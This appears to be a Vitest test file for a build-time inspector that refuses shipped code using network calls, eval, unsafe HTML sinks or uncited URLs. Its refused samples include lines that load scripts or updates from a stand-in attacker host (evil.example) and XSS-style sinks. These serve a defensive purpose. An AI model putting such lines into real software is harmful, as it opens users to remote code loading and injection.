import { describe, expect, it } from 'vitest';
import { inspect } from '../../../modules/bundle-guard/inspect.ts';
import { hardened } from '../../../modules/bundle-guard/preact.ts';

const CITED = new Set(['https://www.nhs.uk/conditions/twitches/']);

describe('A script that ships', () => {
  it.each([
    ['fetch(`/a`)', 'fetch'],
    ['self.fetch(x)', 'fetch'],
    ['globalThis["fetch"](x)', 'fetch'],
    ['const { fetch: load } = self; load(x)', 'fetch'],
    ['const { fetch } = self', 'fetch'],
    ['const load = fetch', 'fetch'],
    ['new XMLHttpRequest()', 'XMLHttpRequest'],
    ['new window.WebSocket(x)', 'WebSocket'],
    ['new EventSource(x)', 'EventSource'],
    ['new WebTransport(x)', 'WebTransport'],
    ['navigator.sendBeacon(x)', 'sendBeacon'],
    ['importScripts(x)', 'importScripts'],
    ['new RTCPeerConnection()', 'RTCPeerConnection'],
    ['new Image().src = x', 'Image'],
    ['new Worker(x)', 'Worker'],
    ['eval(x)', 'eval'],
    ['(0, eval)(x)', 'eval'],
    ['new Function(x)', 'new Function'],
    ['Function(x)()', 'Function()'],
    ['setTimeout("alert()")', 'a timer that runs text'],
    ['a.innerHTML = x', 'innerHTML'],
    ['a[`innerHTML`] = x', 'innerHTML'],
    ['a.outerHTML = x', 'outerHTML'],
    ['a.insertAdjacentHTML(`beforeend`, x)', 'insertAdjacentHTML'],
    ['document.write(x)', 'document.write'],
    ['a.ownerDocument.write(x)', 'document.write'],
    ['a.setHTMLUnsafe(x)', 'setHTMLUnsafe'],
    ['jsx(`p`, { dangerouslySetInnerHTML: { __html: x } })', 'dangerouslySetInnerHTML'],
    ['jsx(`p`, { innerHTML: x })', 'innerHTML'],
    ['jsx(`iframe`, { srcdoc: x })', 'srcdoc'],
    ['import(`https://evil.example/a.js`)', 'https://evil.example/a.js'],
    ['const a = "//evil.example/a.js"', '//evil.example/a.js'],
    ['const a = "wss://evil.example"', 'wss://evil.example'],
    [`const a = \`https://evil.example/\${b}\``, 'https://evil.example/'],
    ['const a = "https://www.nhs.uk/other"', 'https://www.nhs.uk/other'],
    ['a.href = "javascript:alert()"', 'javascript:'],
    ['const {', 'a script that cannot be read'],
  ])('%s is refused', (code, finding) => {
    expect(inspect('a.js', code, CITED).join()).toContain(finding);
  });

  it.each([
    'const a = "People fetch and eval; innerHTML is a word."',
    'const map = { devtools: { eval: { minArgs: 1 } }, fetch: 1 }',
    'class A { fetch() {} }',
    'setTimeout(() => {}, 5)',
    'stream.write(x)',
    'a instanceof Function',
    'const link = "https://www.nhs.uk/conditions/twitches/"',
    'const json = \'{"url":"https://www.nhs.uk/conditions/twitches/","year":2024}\'',
    `const address = \`https://\${typed}\``,
    'document.createElementNS("http://www.w3.org/2000/svg", "path")',
  ])('%s may stay', (code) => {
    expect(inspect('a.js', code, CITED)).toEqual([]);
  });
});

describe('Other files that ship', () => {
  it.each([
    ['a.html', '<script>a()</script>', 'a script written into the page'],
    ['a.html', '<button onclick="a()">', 'a handler written into the page'],
    ['a.html', '<img src="//evil.example/a.png">', '//evil.example/a.png'],
    ['a.css', 'a { background: url(https://evil.example/a.png) }', 'https://evil.example/a.png'],
    ['a.css', '@import "b.css";', '@import'],
    ['manifest.json', '{"update_url": "https://evil.example/update"}', 'https://evil.example/update'],
  ])('%s: %s is refused', (path, text, finding) => {
    expect(inspect(path, text, CITED).join()).toContain(finding);
  });

  it('an ordinary page and style sheet may stay', () => {
    expect(inspect('a.html', '<!doctype html><script type="module" src="/a.js"></script>', CITED)).toEqual([]);
    expect(inspect('a.css', 'a { content: "//"; color: red }', CITED)).toEqual([]);
  });
});

it('Preact that sets HTML in a way we do not know stops the build', () => {
  expect(() => hardened('element.innerHTML = html')).toThrow('Preact sets HTML in another way now');
});
